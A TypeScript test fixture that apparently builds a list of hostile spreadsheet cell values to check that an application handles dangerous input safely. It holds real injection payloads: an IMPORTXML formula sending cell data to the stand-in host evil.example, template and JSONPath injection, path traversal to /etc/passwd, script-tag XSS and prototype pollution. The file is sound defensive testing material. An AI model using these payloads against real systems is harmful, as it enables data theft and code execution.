import { HOSTILE_TEXTS } from './hostile-texts';

/** Names that every object has, and those that change what an object is. */
export const PROTOTYPE_NAMES = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
  '__defineGetter__',
] as const;

/** Texts that some program somewhere runs. */
const CODE_TEXTS = [
  '=IMPORTXML("https://evil.example/?"&A1,"//a")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  "'=1+1",
  '＝1+1',
  '$..[?(@.constructor.constructor("return process")().exit())]',
  '{{constructor.constructor("return 1")()}}',
  '${process.exit()}',
  '<%= 7 * 7 %>',
  '#{7*7}',
  '$&$1$`',
  '../../etc/passwd',
  'javascript:alert(1)',
  'https://evil.example/"><script>alert(1)</script>',
  '{"__proto__":{"polluted":true}}',
] as const;

/** Texts that are awkward to hold: halves of characters, marks without a letter, nothing that shows. */
const AWKWARD_TEXTS = [
  '\ud800',
  'x\udfff',
  '\u0000',
  '\u200b',
  '\ufeff',
  '\u202e',
  'a\u0300'.repeat(50),
  ' ',
  "'",
  '#REF!',
  'TRUE',
  '1e309',
  '-0',
] as const;

/** Every text of the three kinds, and what the longest cell holds; 50,000 characters. */
export const HOSTILE_CELLS: readonly string[] = [
  ...HOSTILE_TEXTS.map(({ text }) => text),
  ...PROTOTYPE_NAMES,
  ...CODE_TEXTS,
  ...AWKWARD_TEXTS,
  'x'.repeat(50_000),
  'a, '.repeat(16_666),
];
